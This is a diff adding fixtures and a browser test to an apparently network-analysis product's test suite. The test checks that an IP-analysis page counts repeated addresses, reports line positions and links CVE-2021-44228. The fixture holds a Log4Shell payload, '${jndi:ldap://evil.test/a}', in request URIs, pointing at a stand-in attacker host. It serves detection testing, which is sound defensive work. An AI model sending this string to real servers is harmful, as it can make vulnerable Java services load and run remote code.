@@ -17,6 +17,7 @@ import { alive, visit } from './visitor.ts'
 
 const folder = mkdtempSync(join(tmpdir(), 'noisefloor-rows-of-list-'))
 const seen = { today: '198.18.9.1', before: '198.18.9.2' }
+const busy = '198.18.129.133'
 let product: Inside
 let browser: Browser
 
@@ -31,6 +32,10 @@ beforeAll(async () => {
   const visits = [
     webVisit(seen.before, { uri: '/' }, now - 3 * 86_400_000),
     webVisit(seen.today, { uri: '/' }, now - 60_000),
+    ...[10_250, 18_080, 28_443].map((destinationPort, at) => ({
+      ...webVisit(busy, { uri: '/?x=${jndi:ldap://evil.test/a}' }, now - 50_000 - at * 1000),
+      destinationPort,
+    })),
   ]
   for (const one of visits) await upload(product, captureOf([one]))
   await waitUntilIdle(product)
@@ -64,4 +69,23 @@ test('a file of the rows that are selected holds them all, also those that no se
   expect(lines.map((line) => line.split(',')[0])).toEqual(['ip', seen.today, seen.before])
   expect(problems).toEqual([])
   await leave()
+})
+
+test('a desk shows the table of a list whole, with where each address stood in it', async () => {
+  const visitor = await visit(browser, product.url)
+  const { page, problems, leave } = visitor
+  await signIn(visitor, 'ada@example.org')
+  await page.goto('/ip/analysis')
+  await alive(page)
+  const lines = [...Array.from({ length: 1200 }, () => '-'), busy, busy, busy, ...Object.values(seen)]
+  await page.getByLabel('Addresses, or any text that holds them').fill(lines.join('\n'))
+  await analyze(page).click()
+  await page.waitForURL('**/ip/analysis/*')
+  await part(page, /^All 3/).waitFor()
+  await rows(page).getByText('3 times, first in line 1,201', { exact: true }).waitFor()
+  await rows(page).getByRole('link', { name: 'CVE-2021-44228' }).waitFor()
+  const table = page.getByRole('region', { name: 'Addresses found' })
+  expect(await table.evaluate(({ scrollWidth, clientWidth }) => scrollWidth - clientWidth)).toBe(0)
+  await leave()
+  expect(problems).toEqual([])
 })
